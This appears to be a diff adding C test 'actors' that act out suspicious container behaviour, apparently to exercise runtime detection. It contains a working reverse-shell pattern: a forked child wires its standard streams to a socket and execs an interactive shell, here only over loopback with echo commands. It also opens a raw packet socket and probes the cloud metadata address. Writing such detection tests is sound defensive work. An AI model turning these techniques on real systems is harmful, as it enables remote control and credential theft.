@@ -1,0 +1,64 @@
+/* Connections that a container has no business with. */
+#include "actor.h"
+#include <arpa/inet.h>
+#include <linux/if_ether.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
+
+/*
+ * The attacker's end is here, too, so that no machine outside is needed: it sends one command after the other and prints what
+ * comes back. The victim's end is a shell whose input and outputs are the connection.
+ */
+int reverse_shell(int argc, char **argv)
+{
+	static const char *commands[] = { "echo first\n", "echo second\n", "exit 0\n" };
+	struct sockaddr_in address = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+	socklen_t length = sizeof(address);
+	int listener = socket(AF_INET, SOCK_STREAM, 0);
+	if (bind(listener, (void *)&address, sizeof(address)) || listen(listener, 1) || getsockname(listener, (void *)&address, &length))
+		return failed("listen");
+	pid_t victim = fork();
+	if (victim == 0) {
+		int line = socket(AF_INET, SOCK_STREAM, 0);
+		if (connect(line, (void *)&address, sizeof(address)))
+			_exit(failed("connect"));
+		dup2(line, 0);
+		dup2(line, 1);
+		dup2(line, 2);
+		execl("/bin/sh", "sh", "-i", (char *)0);
+		_exit(127);
+	}
+	int line = accept(listener, 0, 0);
+	for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++) {
+		char answer[4096];
+		usleep(100000);
+		if (send(line, commands[i], strlen(commands[i]), MSG_NOSIGNAL) < 0)
+			break;
+		ssize_t n = recv(line, answer, sizeof(answer), 0);
+		if (n <= 0)
+			break;
+		fwrite(answer, 1, n, stdout);
+	}
+	int status = 0;
+	waitpid(victim, &status, 0);
+	printf("\nthe shell %s %d\n", WIFSIGNALED(status) ? "was killed by signal" : "ended with", WIFSIGNALED(status) ? WTERMSIG(status) : WEXITSTATUS(status));
+	return 0;
+}
+
+int packet_socket(int argc, char **argv)
+{
+	int raw = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
+	return raw < 0 ? failed("socket") : close(raw);
+}
+
+int ask_metadata(int argc, char **argv)
+{
+	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(80) };
+	inet_pton(AF_INET, "169.254.169.254", &address.sin_addr);
+	int line = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
+	if (line < 0)
+		return failed("socket");
+	/* Whether somebody answers is all the same. */
+	connect(line, (void *)&address, sizeof(address));
+	return close(line);
+}
